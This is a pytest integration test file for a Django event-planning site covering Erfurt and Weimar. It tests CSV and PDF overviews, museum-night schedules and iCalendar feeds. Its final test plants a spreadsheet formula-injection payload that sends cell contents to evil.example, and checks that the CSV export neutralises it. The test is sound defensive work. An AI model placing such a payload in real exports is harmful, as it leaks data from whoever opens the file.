import csv
import io
import json
import re
from datetime import date, time
from io import StringIO
from pathlib import Path

import icalendar
import pytest
from django.core.management import CommandError, call_command

from impulsregion.planning.demo import load_planning
from impulsregion.planning.models import BlockedDate, Highlight, JointEvent
from impulsregion.planning.tasks import render_yearbooks
from tests.factories.planning import (
    make_event,
    make_kraemerbrueckenfest,
    make_place,
    make_region_towns,
)
from tests.jobs import run_jobs
from tests.pdf import pdf_text

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

SLUG = "lange-nacht-der-museen-2027"


@pytest.fixture
def demo():  # type: ignore[no-untyped-def]
    towns = make_region_towns()
    make_kraemerbrueckenfest(towns["erfurt"], categories=("festival",))
    make_event(
        "Kunstfest Weimar",
        start=date(2027, 8, 20),
        end=date(2027, 9, 5),
        place=make_place(
            "Deutsches Nationaltheater",
            towns["weimar"],
            postal_code="99423",
            street="Theaterplatz 2",
        ),
        expected_visitors=30_000,
        is_major_event=True,
    )
    make_event(
        "Kleine Lesung", start=date(2027, 3, 3), start_time=time(19, 30), expected_visitors=40
    )
    load_planning()
    return towns


def test_load_planning_is_idempotent_and_selects_highlights(demo) -> None:  # type: ignore[no-untyped-def]
    first = (
        BlockedDate.objects.count(),
        Highlight.objects.count(),
        JointEvent.objects.get().umbrella.sub_events.count(),
    )
    load_planning()
    again = (
        BlockedDate.objects.count(),
        Highlight.objects.count(),
        JointEvent.objects.get().umbrella.sub_events.count(),
    )

    assert first == again == (3, 3, 13)
    assert [h.event.title_de for h in Highlight.objects.order_by("order")] == [
        "Lange Nacht der Museen 2027",
        "Krämerbrückenfest",
        "Kunstfest Weimar",
    ]


def test_overview_shows_major_events_and_blocked_dates(demo, client) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/planung/", {"year": 2027})
    html = response.content.decode()

    assert response.status_code == 200
    assert "<caption" in html
    assert "Krämerbrückenfest" in html
    assert "Zwiebelmarkt: Innenstadt und Hotels ausgelastet (Beispiel)" in html
    assert "Kleine Lesung" not in html


def test_overview_csv(demo, client) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/planung/2027.csv")
    lines = response.content.decode().splitlines()
    assert (
        lines[0]
        == "week,monday,sunday,municipality,kind,title,start,end,organisation,expected_visitors"
    )
    assert (
        "2027-W24,2027-06-14,2027-06-20,erfurt,major_event,Krämerbrückenfest,2027-06-18,2027-06-20,Erfurt,150000"
        in lines
    )


def test_yearbook_page_and_missing_year(demo, client) -> None:  # type: ignore[no-untyped-def]
    html = client.get("/jahresueberblick/2027/").content.decode()
    assert '<h2 id="month-6">Juni 2027</h2>' in html
    assert "Kunstfest Weimar" in html
    assert "20.\xa0August – 5.\xa0September\xa02027" in html

    empty = client.get("/jahresueberblick/2031/")
    assert empty.status_code == 404
    assert "Für 2031 wurden noch keine Höhepunkte ausgewählt." in empty.content.decode()


def _programme_keys(client) -> dict[str, str]:  # type: ignore[no-untyped-def]
    html = client.get(f"/museumsnacht/{SLUG}/").content.decode()
    return {
        label: key
        for key, label in re.findall(
            r'id="item-(\d+)">\s*<label for="item-\d+">([^<]+)</label>', html
        )
    }


def test_museumsnacht_page_has_json_ld_with_sub_events(demo, client) -> None:  # type: ignore[no-untyped-def]
    html = client.get(f"/museumsnacht/{SLUG}/").content.decode()
    data = json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    )

    assert data["name"] == "Lange Nacht der Museen 2027"
    assert data["offers"]["price"] == "15.00"
    assert len(data["subEvent"]) == 13
    assert data["subEvent"][0]["superEvent"]["name"] == "Lange Nacht der Museen 2027"
    assert data["startDate"] == "2027-05-15T18:00:00+02:00"


def test_picks_give_plan_with_overlap_and_ics(demo, client) -> None:  # type: ignore[no-untyped-def]
    keys = _programme_keys(client)
    a = keys["18:00–19:00: Führung: Mittelalterliche Tafelbilder"]
    b = keys["18:00–18:45: Lesung: Goethe bei Nacht"]
    c = keys["22:30–23:30: Sternegucken mit dem Teleskop"]

    html = client.get(f"/museumsnacht/{SLUG}/", {"item": [a, b, c]}).content.decode()
    ics = client.get(f"/museumsnacht/{SLUG}/auswahl.ics", {"item": [a, c]})

    assert (
        "„Lesung: Goethe bei Nacht“ und „Führung: Mittelalterliche Tafelbilder“ überschneiden sich um 45 Minuten."
        in html
    )
    assert ics["Content-Type"] == "text/calendar; charset=utf-8"
    events = list(icalendar.Calendar.from_ical(ics.content).walk("VEVENT"))
    assert [str(e["summary"]) for e in events] == [
        "Führung: Mittelalterliche Tafelbilder",
        "Sternegucken mit dem Teleskop",
    ]


def test_one_feed_per_venue(demo, client) -> None:  # type: ignore[no-untyped-def]
    joint = JointEvent.objects.get()
    place = joint.umbrella.sub_events.get(title_de="Sternegucken mit dem Teleskop").place
    response = client.get(f"/feeds/museumsnacht/{SLUG}/venue-{place.pk}.ics")
    events = list(icalendar.Calendar.from_ical(response.content).walk("VEVENT"))
    assert [str(e["summary"]) for e in events] == [
        "Führung: Vom Mikroskop zum Planetarium",
        "Sternegucken mit dem Teleskop",
    ]
    assert client.get(f"/feeds/museumsnacht/{SLUG}/venue-999999.ics").status_code == 404


def test_jahresueberblick_command_writes_pdf(demo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    output = tmp_path / "2027.pdf"
    call_command(
        "jahresueberblick",
        "2027",
        "--lang",
        "de",
        "--output",
        str(output),
        verbosity=0,
        stdout=StringIO(),
    )
    text = pdf_text(output)
    for expected in (
        "Mai 2027",
        "Juni 2027",
        "August 2027",
        "Krämerbrückenfest",
        "Kunstfest Weimar",
        "Register nach Orten",
        "Deutsches Optisches Museum",
    ):
        assert expected in text


def test_jahresueberblick_without_highlights_writes_nothing(demo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    output = tmp_path / "2030.pdf"
    with pytest.raises(CommandError, match="No highlights are selected for 2030"):
        call_command("jahresueberblick", "2030", "--output", str(output), verbosity=0)
    assert not output.exists()


def test_clashes_command_reports_planted_clash(demo) -> None:  # type: ignore[no-untyped-def]
    out = StringIO()
    call_command(
        "clashes",
        "--start",
        "2027-06-19",
        "--end",
        "2027-06-20",
        "--municipality",
        "weimar",
        "--visitors",
        "20000",
        "--today",
        "2026-11-24",
        stdout=out,
    )
    assert "Großveranstaltung „Krämerbrückenfest“ in Erfurt an denselben Tagen" in out.getvalue()


def test_suggest_dates_command_rejects_empty_window(demo) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CommandError, match="Der Zeitraum enthält keinen möglichen Termin"):
        call_command(
            "suggest_dates",
            "--from",
            "2027-06-07",
            "--to",
            "2027-06-10",
            "--weekday",
            "sat",
            "--municipality",
            "weimar",
            "--today",
            "2026-11-24",
        )


def test_nightly_job_renders_the_printed_overview_for_the_page(
    demo, client, settings, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path
    assert client.get("/jahresueberblick/2027.pdf").status_code == 404
    assert "PDF" not in client.get("/jahresueberblick/2027/").content.decode()

    render_yearbooks.enqueue()
    run_jobs()

    html = client.get("/jahresueberblick/2027/").content.decode()
    link = re.search(r'<a href="(/jahresueberblick/2027\.pdf)"[^>]*>([^<]+)</a>', html)
    assert link is not None
    assert "PDF" in link.group(2)
    pdf = client.get(link.group(1))
    assert pdf["Content-Type"] == "application/pdf"
    text = pdf_text(b"".join(pdf.streaming_content))
    assert "Kunstfest Weimar" in text
    assert "August 2027" in text
    english = client.get("/en/jahresueberblick/2027.pdf")
    assert "Index by place" in pdf_text(b"".join(english.streaming_content))


def test_overview_csv_cells_never_start_a_formula(demo, client) -> None:  # type: ignore[no-untyped-def]
    attack = '=HYPERLINK("http://evil.example/?leak="&A1;"Programm")'
    make_event(attack, start=date(2027, 9, 4), expected_visitors=20_000, is_major_event=True)

    rows = list(csv.reader(io.StringIO(client.get("/planung/2027.csv").content.decode())))

    titles = [row[5] for row in rows[1:]]
    assert "'" + attack in titles
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert "Krämerbrückenfest" in titles  # ordinary text stays as it is
